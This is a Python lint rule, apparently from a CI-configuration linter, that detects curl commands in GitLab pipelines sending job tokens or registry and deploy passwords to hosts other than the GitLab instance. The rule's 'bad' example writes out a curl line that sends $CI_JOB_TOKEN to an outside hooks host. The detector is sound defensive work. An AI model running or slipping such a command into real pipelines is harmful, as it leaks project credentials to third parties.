"""curl sending the job's credentials to a host other than GitLab."""

from lintkit.commands import invocations
from lintkit.model import Example, Problem, rule

#: Predefined variables that carry credentials.
CREDENTIAL_VARIABLES = (
    "CI_JOB_TOKEN", "CI_REGISTRY_PASSWORD", "CI_DEPLOY_PASSWORD", "CI_DEPENDENCY_PROXY_PASSWORD",
    "CI_JOB_JWT", "CI_JOB_JWT_V1", "CI_JOB_JWT_V2",
)  # fmt: skip
#: URL prefixes that are the GitLab instance itself.
GITLAB_URLS = ("$CI_API_V4_URL", "${CI_API_V4_URL}", "$CI_SERVER_URL", "${CI_SERVER_URL}", "$CI_PROJECT_URL", "${CI_PROJECT_URL}", "$CI_API_GRAPHQL_URL", "${CI_API_GRAPHQL_URL}", "$CI_REGISTRY", "${CI_REGISTRY}")


@rule(
    id="GL021",
    name="no-curl-exfiltration",
    severity="warning",
    summary="curl sends a CI credential variable to a host that is not the GitLab instance",
    rationale=(
        "`$CI_JOB_TOKEN` and the registry/deploy passwords act as the pipeline's identity. "
        "Sent to any other host, they let that host act on the project (and, for the job "
        "token, on every project that allows it) while the job runs."
    ),
    tags=("security",),
    aliases=("CKV_GITLABCI_1",),
    examples=(
        Example(
            bad="notify:\n  script:\n    - 'curl -H \"JOB-TOKEN: $CI_JOB_TOKEN\" https://hooks.example.com/build'\n",
            good="release:\n  script:\n    - 'curl -H \"JOB-TOKEN: $CI_JOB_TOKEN\" \"$CI_API_V4_URL/projects/$CI_PROJECT_ID/releases\"'\n",
            filename=".gitlab-ci.yml",
        ),
    ),
)
def check(pipeline, ctx):
    for line in pipeline.script_lines:
        for run in invocations(line.script):
            if run.name != "curl":
                continue
            carrying = [w for w in run.args if any(v in w.raw for v in CREDENTIAL_VARIABLES)]
            if not carrying:
                continue
            urls = [w for w in run.args if w not in carrying and ("://" in w.text or w.text.startswith(GITLAB_URLS))]
            if not urls or any(w.text.startswith(GITLAB_URLS) for w in urls):
                continue
            variable = next(v for v in CREDENTIAL_VARIABLES if v in carrying[0].raw)
            yield Problem(carrying[0].span, f"{line.owner}: curl sends ${variable} to {urls[0].text}, which is not the GitLab instance")
